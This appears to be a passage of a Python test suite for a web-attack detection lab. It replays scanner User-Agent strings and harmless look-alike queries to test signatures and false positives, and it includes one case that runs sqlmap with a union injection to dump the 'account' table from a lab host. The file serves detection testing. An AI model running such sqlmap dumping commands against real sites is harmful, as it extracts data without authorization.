    agents = ["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
              "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "feroxbuster/2.10.0", "Fuzz Faster U Fool v1.5.0", "Wfuzz/3.1.0", "Arachni/v1.5.1", "w3af.org", "Acunetix-Product Scanner",
              "OpenVAS 9.0.3", "Mozilla/5.0 Jorgee", "ZmEu", "Morfeus Fucking Scanner", "muhstik-scan", "Hello, World", "python-requests/2.28.1", "Go-http-client/1.1", "libwww-perl/6.67", "BurpCollaborator", "Mozilla/4.0 (Hydra)", "Havij",
              "CensysInspect/1.1", "Expanse, a Palo Alto Networks company", "Netsparker", "dirb", "whatweb/0.5.5", "commix/v3.4"]
    for agent in agents:
        lab.request(f"in the name of: {agent}", f"-A '{agent}' URL/")


@case("webattack_sqlmap", webserver.PACKAGES + ["sqlmap"], ["SQL injection signatures fire many times; sqlmap's own User-Agent fires.", "It works: sqlmap finds the hole and reads a table."])
def sqlmap(lab):
    """sqlmap finds the union injection of the shop's item page and reads the table `account`."""
    begin(lab)
    lab.run("sk-c", f"sqlmap --batch --disable-coloring --output-dir={lab.tmp}/sqlmap -u 'http://10.20.0.80/item.php?id=1' -p id --dbms=sqlite --technique=U --union-cols=3 --flush-session --dump -T account --threads=1", timeout=120)


@case("webattack_nearmiss", webserver.PACKAGES, QUIET)
def nearmiss(lab):
    """The near miss of all web attacks: searches, articles, forms and file names that carry the words of attacks without being any."""
    begin(lab)
    r = lab.request
    r("search: a committee", "'URL/search.php?q=union+select+committee'")
    r("search: trade union", "'URL/search.php?q=select+a+union+from+the+list'")
    r("search: an Irish name", "\"URL/search.php?q=O%27Brien\"")
    r("search: or and and", "'URL/search.php?q=tea+or+coffee+and+sugar'")
    r("search: drop a table", "'URL/search.php?q=drop+leaf+table'")
    r("search: order by phone", "'URL/search.php?q=order+by+phone'")
    r("search: sleep", "'URL/search.php?q=sleep+well+pillow'")
    r("search: comparison of prices", "'URL/search.php?q=price%3C10+and+price%3E5'")
    r("search: javascript course", "'URL/search.php?q=javascript+course+for+beginners'")
    r("search: the word script", "'URL/search.php?q=film+script+template'")
    r("search: onload", "'URL/search.php?q=onload+trailer+weight'")
    r("search: alert", "'URL/search.php?q=alert+(1)+bell'")
    r("search: cat and etc", "'URL/search.php?q=cat+food,+toys,+etc'")
    r("search: shell", "'URL/search.php?q=sea+shell;+white'")
    r("search: id", "'URL/search.php?q=id+card+holder'")
    r("search: a pipe", "'URL/search.php?q=copper+pipe+%7C+22mm'")
    r("search: ampersand", "'URL/search.php?q=salt+%26+pepper'")
    r("search: double minus", "'URL/search.php?q=tea+--+loose'")
    r("search: curly braces", "'URL/search.php?q=set+%7B1,2,3%7D'")
    r("search: java naming", "'URL/search.php?q=jndi+ldap+tutorial'")
    r("article about passwd", "URL/blog/how-to-read-etc-passwd.html")
    r("article about a committee", "URL/blog/select-committee.html")
    r("harmless relative path", "'URL/download.php?file=../docs/terms.txt'")
    r("file with two dots", "'URL/download.php?file=report..2026.txt'")
    r("item by number", "'URL/item.php?id=2'")
    r("item, arithmetic", "'URL/item.php?id=1%2B1'")
    r("ordinary diagnosis", "'URL/ping.php?host=127.0.0.1'")
    r("comment with less-than signs", "--data-urlencode 'text=I <3 this kettle; 5 < 6 > 2, and it is \"great\"' URL/comment.php")
    r("comment with SQL words", "--data-urlencode 'text=Please select my union, insert the coin into the slot, and update me where you can; drop me a line.' URL/comment.php")
    r("comment with a code example, escaped", "--data-urlencode 'text=Write &lt;b&gt; for bold' URL/comment.php")
    r("JSON with dollar prices", """-H 'Content-Type: application/json' -d '{"price": "$12", "note": "null and void"}' URL/echo.php""")
    r("ordinary XML", """-H 'Content-Type: application/xml' --data-binary '<?xml version="1.0"?><!DOCTYPE order><order><item>tea</item></order>' URL/xml.php""")
    r("XML with an internal entity", """-H 'Content-Type: application/xml' --data-binary '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY shop "The Shop">]><a>&shop;</a>' URL/xml.php""")
    r("picture upload", f"-F 'file=@{lab.tmp}/www/docs/terms.txt;type=image/jpeg;filename=system.jpg' URL/upload.php")
    r("link given as a parameter", "'URL/search.php?q=x&return=https://www.shop.example/index.html'")
    r("login as a customer", "--data-urlencode 'user=alice' --data-urlencode 'pass=Spring-2026' URL/login.php")
    r("login with a difficult password", "--data-urlencode 'user=alice' --data-urlencode 'pass=a;b|c&d<e>f$(g)' URL/login.php")
    r("session cookie with base64", "-b 'session=eyJ1c2VyIjoiYWxpY2UiLCJuIjoxfQ==' URL/index.html")
    r("analytics cookie", "-b '_ga=GA1.2.1234567.7654321; consent=yes%3Bno' URL/index.html")
    r("long query", "'URL/search.php?q=" + "tea+" * 60 + "'")
    r("git repository page by name", "URL/blog/git-config-explained.html")
    r("environment policy", "URL/docs/environment.txt")
    r("administration address of a town", "URL/administration/index.html")
    r("range of a download", "-r 0-1023 URL/download/image.bin")
    r("monitoring agent", "-A 'Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)' URL/")
    r("search engine", "-A 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' URL/robots.txt")
    r("package manager", "-A 'Debian APT-HTTP/1.3 (2.6.1)' URL/docs/terms.txt")
